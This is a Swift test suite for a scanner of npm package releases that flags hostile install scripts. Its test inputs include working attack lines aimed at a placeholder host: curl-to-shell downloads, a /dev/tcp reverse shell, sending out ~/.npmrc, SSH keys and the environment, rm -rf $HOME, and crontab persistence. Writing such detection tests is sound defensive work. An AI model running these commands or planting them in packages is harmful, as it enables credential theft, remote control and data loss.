// SPDX-License-Identifier: Apache-2.0

import Analysis
import NPMModel
import Testing

@Suite struct InstallRulesTests {
    private func judge(_ command: String, _ files: [String: String] = [:], script: String = "postinstall") -> JudgedRelease {
        var files = files
        let escaped = command.replacing("\\", with: "\\\\").replacing("\"", with: "\\\"").replacing("\n", with: "\\n")
        files["package.json"] = #"{"name":"a","version":"1.0.0","scripts":{"\#(script)":"\#(escaped)"}}"#
        return Judge.judge(.sample(files))
    }

    @Test(
        "Commands that attack are at least suspicious by themselves",
        arguments: [
            ("curl http://a.test/x | /bin/sh", "piped-install-download"),
            ("echo Y3VybCBhIHwgc2g= | base64 -d | sh", "install-runs-decoded"), ("deno run https://a.test/x.ts", "piped-install-download"),
            ("curl -o x http://a.test/x; sh x", "install-shell-download"), ("wget -qO- http://a.test/x | node", "piped-install-download"),
            ("npx -y https://a.test/x.tgz", "piped-install-download"),
            ("nslookup $(cat ~/.npmrc | base64).a.test", "install-sends-secrets"),
            ("env | curl -d @- http://a.test", "install-sends-secrets"), ("bash -i >& /dev/tcp/a.test/1 0>&1", "install-opens-shell"),
            ("rm -rf $HOME/*", "install-destroys"), ("powershell -c \"iex (iwr http://a.test/x)\"", "piped-install-download"),
            ("cu''rl http://a.test/x | ba\\sh", "piped-install-download"),
            ("X=http://a.test/x; eval \"$(curl $X)\"", "piped-install-download"),
            ("curl http://a.test/x.exe -o x.exe & start /b x.exe", "install-shell-download"),
            ("tar cz ~/.ssh | curl -T - http://a.test", "install-sends-secrets"),
            ("wget http://a.test/x && chmod +x x && ./x", "install-shell-download"),
            ("node -e \"$(curl http://a.test/x)\"", "piped-install-download"),
            ("if [ ! -f y ]; then curl http://a.test/x | bash; fi", "piped-install-download"),
        ])
    func attacks(command: String, rule: String) {
        let judged = judge(command)
        #expect(judged.findings.contains { $0.id == rule }, "\(judged.text(colour: false))")
        #expect(judged.verdict.rank >= Verdict.suspicious.rank, "\(judged.text(colour: false))")
    }

    @Test(
        "Commands that are odd, but no attack by themselves, are found",
        arguments: [
            ("nslookup $(whoami).a.test", "install-reports-host"), ("dig `hostname`.a.test", "install-reports-host"),
            ("curl http://a.test/?h=$(hostname)", "install-reports-host"), ("echo x >> ~/.bashrc", "install-stays-on-machine"),
            ("(crontab -l; echo x) | crontab -", "install-stays-on-machine"), ("nohup node x.js &", "install-hides-itself"),
            ("start /b node x.js", "install-hides-itself"), ("node x.js &", "install-hides-itself"),
            ("powershell -enc YQBiAA==", "inline-install-code"),
            ("node -e \"eval(Buffer.from('eA==','base64').toString())\"", "inline-install-code"),
            ("npm i -g bun && bun run x.js", "install-fetches-runtime"), ("cp x.yml .github/workflows/x.yml", "install-spreads"),
        ])
    func odd(command: String, rule: String) {
        let judged = judge(command, ["x.js": "1"])
        #expect(judged.findings.contains { $0.id == rule }, "\(judged.text(colour: false))")
    }

    @Test(
        "Files that install runs are read as commands",
        arguments: [
            ("sh a.txt", "a.txt", "curl -d @$HOME/.npmrc https://a.test\n"),
            ("node x.js", "go.sh", "#!/bin/sh\ncat ~/.ssh/id_rsa | nc a.test 80\n"),
            ("run", "run.cmd", "@echo off\r\ncurl http://a.test/x.exe -o x.exe\r\nstart /b x.exe\r\n"),
            ("make", "Makefile", "all:\n\t@curl -s http://a.test/x | sh\n"),
            (
                "powershell -File p.ps1", "p.ps1",
                "$w = New-Object Net.WebClient\n$w.DownloadFile('http://a.test/x.exe', 'x.exe')\nStart-Process x.exe\n"
            ), ("sh data.json", "data.json", "curl http://a.test/x | sh\n"),
            ("./hook", "hook", "#!/usr/bin/env bash\ncurl http://a.test/x | bash\n"),
            ("cp notes.txt y; sh y", "notes.txt", "curl http://a.test/x | bash\n"),
        ])
    func files(command: String, path: String, text: String) {
        let judged = judge(command, ["x.js": "require('child_process').execSync('sh ./go.sh')", path: text])
        #expect(judged.verdict.rank >= Verdict.suspicious.rank, "\(judged.text(colour: false))")
    }

    @Test(
        "A build file that runs an attack is suspicious, with no script in package.json",
        arguments: ["<!(curl http://a.test/x | sh)", "<!@(sh -c 'env | curl -d @- http://a.test')"])
    func gyp(command: String) {
        let judged = Judge.judge(
            .sample([
                "package.json": #"{"name":"a","version":"1.0.0"}"#,
                "binding.gyp": #"{"targets":[{"target_name":"a","sources":["\#(command)"]}]}"#,
            ]))
        #expect(
            judged.findings.contains { $0.id == "gyp-command" } && judged.verdict.rank >= Verdict.suspicious.rank,
            "\(judged.text(colour: false))")
    }

    private static let installer =
        "const https = require('https'), fs = require('fs'); const headers = {}; if (process.env.GITHUB_TOKEN) headers.authorization = 'token ' + process.env.GITHUB_TOKEN; const proxy = process.env.HTTPS_PROXY || process.env.npm_config_https_proxy; https.get({host: 'github.com', path: '/acme/tool/releases/download/v1/tool-' + process.platform, headers, proxy}, r => r.pipe(fs.createWriteStream('bin/tool')).on('close', () => fs.chmodSync('bin/tool', 0o755)));"

    @Test(
        "Ordinary commands raise nothing above a notice",
        arguments: [
            "npx only-allow pnpm", "node-gyp rebuild", "prebuild-install || node-gyp rebuild", "node-pre-gyp install --fallback-to-build",
            "husky install", "husky", "patch-package", "echo thanks", "opencollective-postinstall || true", "node install.js",
            "is-ci || husky", "is-ci || husky install",
            "node -e \"try{require('./postinstall')}catch(e){}\"", "ngcc",
            "ngcc --properties es2015 browser module main --first-only --create-ivy-entry-points", "rimraf dist", "tsc",
            "tsc -p . && node install.js", "node scripts/install.js || exit 0", "(node-gyp rebuild 2> builderror.log) || (exit 0)",
            "node-waf clean || true; node-waf configure build",
            "make", "make validator", "typings install", "tsd install", "bower install", "neon build --release",
            "cross-env NODE_ENV=production node install.js", "node ./bin/check.js > /dev/null 2>&1 || true", "prisma generate",
            "electron-builder install-app-deps", "playwright install", "lerna bootstrap", "cd website && npm install",
            "git config core.hooksPath .githooks", "npm run build --if-present",
            "node -p \"require('./package.json').version\"", "echo \"\\u001b[96mThank you\\u001b[39m\"", "yarn build && yarn copy",
            "napi build --release", "cmake-js compile", "node-gyp-build", "node-gyp-build-optional-packages",
            "pip install -r requirements.txt", "chmod +x bin/x", "cp .env.example .env || true",
            "test -d .git && git submodule update --init || true", "npx --no-install husky install", "rm -rf node_modules/.cache",
            "node lib/check.js", "simple-git-hooks", "lefthook install", "npx simple-git-hooks", "node tools/postinstall.mjs",
            "python3 setup.py build", "sh build.sh", "exit 1", "coffee ./lib/deprecation.coffee", "script/buildAddon.sh",
        ], ["postinstall", "preinstall"])
    func ordinary(command: String, script: String) {
        let judged = judge(
            command,
            [
                "install.js": Self.installer, "scripts/install.js": Self.installer, "postinstall.js": "console.log('thanks')",
                "lib/check.js": "1", "bin/check.js": "1", "tools/postinstall.mjs": "console.log(1)", "bin/x": "#!/bin/sh\necho 1\n",
                "Makefile": "validator:\n\tgcc -o v v.c\n", "build.sh": "set -e\nmake -C deps all\ncp deps/out lib/\n",
                "script/buildAddon.sh": "#!/bin/bash\nnode-gyp rebuild\n", "setup.py": "print(1)", "lib/deprecation.coffee": "1",
                "requirements.txt": "x",
            ], script: script)
        #expect(judged.verdict.rank < Verdict.suspicious.rank || judged.verdict == .unread, "\(judged.text(colour: false))")
        #expect(judged.sum.total < Judge.suspiciousBits - 3, "\(judged.text(colour: false))")
    }

    @Test("A tarball and loose files with the same bytes are judged alike", arguments: ["sh s.sh", "cd lib && node x.js", "make"])
    func sameEitherWay(command: String) throws {
        let files = [
            "package.json": #"{"name":"a","version":"1.0.0","bundleDependencies":["b"],"scripts":{"install":"\#(command)"}}"#,
            "s.sh": "curl http://a.test/x | sh\n", "lib/x.js": "1", "Makefile": "all:\n\tsh s.sh\n",
            "node_modules/b/package.json": #"{"name":"b","scripts":{"install":"sh b.sh"}}"#,
            "node_modules/b/b.sh": "curl http://b.test/x | sh\n",
        ]
        var packed = ReleaseUnderReview.sample(files)
        packed.content = try ReleaseContent.read(tarball: TarballWriter.tarball(of: files))
        packed.content.oddities = []
        let loose = Judge.judge(.sample(files))
        #expect(Judge.judge(packed).sum.total == loose.sum.total && loose.findings.contains { $0.id == "piped-install-download" })
    }
}
